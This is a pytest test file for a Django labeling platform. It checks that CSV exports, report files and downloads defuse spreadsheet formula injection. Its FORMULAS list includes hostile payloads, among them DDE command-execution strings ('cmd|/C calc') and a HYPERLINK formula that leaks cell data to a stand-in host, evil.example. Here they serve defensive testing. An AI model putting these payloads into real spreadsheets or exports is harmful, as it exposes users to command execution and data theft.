"""No cell of a CSV that we write is run by a spreadsheet, whatever people put in; our numbers stay numbers."""

from __future__ import annotations

import csv
import gzip
import io
import re
import zipfile
from typing import Any

import pytest
from django.db import connection
from django_scopes import scopes_disabled
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg2 import sql

from jobs_app.models import Job, TestQuestion, Unit
from labeling_platform.accounts.models import Team, User
from labeling_platform.accounts.tenancy import team_scope
from labeling_platform.lib import storage
from labeling_platform.lib.csvio import CsvProblem, problems_file, safe_cell
from reports_app import services
from reports_app.kinds import SAFE_CELLS
from reports_app.models import Report
from reports_app.services.lines import defused
from reports_app.states import ReportKind

from .nasty import saturate
from .test_tenancy import World, address, make_world

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1", "＋A1", "－A1", "＠A1",
    "|cmd", "%0A=1",
    "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "--1", "+-1", "-A1",
    '"=1+1', "'=1+1", ";=1", "=", "-", "+", "@",
]  # fmt: skip
STARTS = re.compile(r"[ \u3000]*[=+\-@\t\r\n|%＝＋－＠]")
NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*(e[+-]?[0-9]+)?", re.IGNORECASE)
KINDS = [kind for kind in ReportKind if kind not in {ReportKind.WORKFLOW, ReportKind.JSON}]


def run_by_a_spreadsheet(data: bytes) -> list[str]:
    cells = [cell for line in csv.reader(io.StringIO(data.decode(), newline="")) for cell in line]
    assert cells
    return [cell for cell in cells if STARTS.match(cell) and not NUMBER.fullmatch(cell)]


def content(report: Report) -> bytes:
    data = storage.read_bytes(report.file)
    if zipfile.is_zipfile(io.BytesIO(data)):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return archive.read(archive.namelist()[0])
    return gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data


@pytest.fixture
def world(db: None) -> World:
    with scopes_disabled():
        world = make_world("ours")
        saturate(1, FORMULAS)
        columns = [text.strip() for text in FORMULAS if text.strip()]
        Unit.objects.update(data=dict(zip(columns, FORMULAS, strict=False)) | {"number": "-1.5"})
        columns_of_files = ["image_url", *columns]
        type(world["sent"]).objects.update(columns=columns_of_files)
        type(world["row"]).objects.update(cells=["http://a/1.jpg", *FORMULAS])
        Job.objects.update(
            cml='<cml:radios label="x" name="image_category" gold="true"><cml:radio label="=1" value="=1+1"/>'
            '<cml:radio label="b" value="-1"/></cml:radios><cml:text label="=2" name="note"/>'
        )
        TestQuestion.objects.update(answers={"image_category": ["=1+1"]}, reasons={"image_category": "=reason"})
        return world


def built(world: World, kind: ReportKind, **options: Any) -> bytes:
    team = Team.objects.get(pk=world["team"].pk)
    with team_scope(team):
        if kind == ReportKind.WORKFLOW:
            made = services.request_report(workflow=world["workflow"], actor=None, options=options)
        else:
            made = services.request_job_report(job=world["job"], kind=kind, actor=None, options=options)
        assert services.build_report(report=made) is True
        made.refresh_from_db()
        return content(made)


@pytest.mark.parametrize("kind", KINDS)
def test_no_report_of_a_job_has_a_formula(kind: ReportKind, world: World) -> None:
    data = built(world, kind, unfinished=True, untrusted=True, confidences=True)
    assert run_by_a_spreadsheet(data) == []


@pytest.mark.parametrize("form", ["csv", "csv.gz"])
def test_no_report_of_a_workflow_has_a_formula(form: str, world: World) -> None:
    assert run_by_a_spreadsheet(built(world, ReportKind.WORKFLOW, format=form)) == []


def test_as_it_came_is_a_choice_that_has_to_be_made(world: World) -> None:
    """For programs that read the file back; off unless somebody takes the mark away."""
    assert run_by_a_spreadsheet(built(world, ReportKind.SOURCE, **{SAFE_CELLS: False})) != []


PAGES = ["jobs:upload_problems", "workflows:upload_problems", "jobs:sample", "jobs:gold_example"]


@pytest.mark.parametrize("name", PAGES)
def test_no_file_of_a_page_has_a_formula(name: str, world: World, client_for, csm: User) -> None:
    response = client_for(world["people"]["owner"]).get(address(name, world, world["team"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert run_by_a_spreadsheet(data) == []


text = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=12)
SPACES = ["", " ", "\u3000", "\t", " \u3000 "]
formula = st.builds("".join, st.tuples(st.sampled_from(SPACES), st.sampled_from(FORMULAS), text))


@settings(max_examples=60, deadline=None)
@given(st.lists(text | formula, min_size=1, max_size=6))
def test_the_file_of_problems_never_has_a_formula(texts: list[str]) -> None:
    file = problems_file(CsvProblem(number, text, "x", text) for number, text in enumerate(texts))
    assert run_by_a_spreadsheet(file.read()) == []


@pytest.mark.django_db
@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(text | formula | st.floats().map(str) | st.integers().map(str), min_size=10, max_size=30))
def test_postgres_and_python_defuse_alike(drawn: list[str]) -> None:
    texts = drawn + [before + one + after for before in SPACES for one in FORMULAS for after in ("", "1", "a", "é\n")]
    with connection.cursor() as cursor:
        statement = sql.SQL("SELECT t, {} FROM unnest({}::text[]) AS t")
        cursor.execute(statement.format(defused(sql.Identifier("t")), sql.Literal(texts)).as_string(cursor.cursor))
        found = cursor.fetchall()
    assert found == [(text, safe_cell(text) or None) for text in texts]


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_keep_their_minus(number: float) -> None:
    assert safe_cell(str(number)) == str(number)
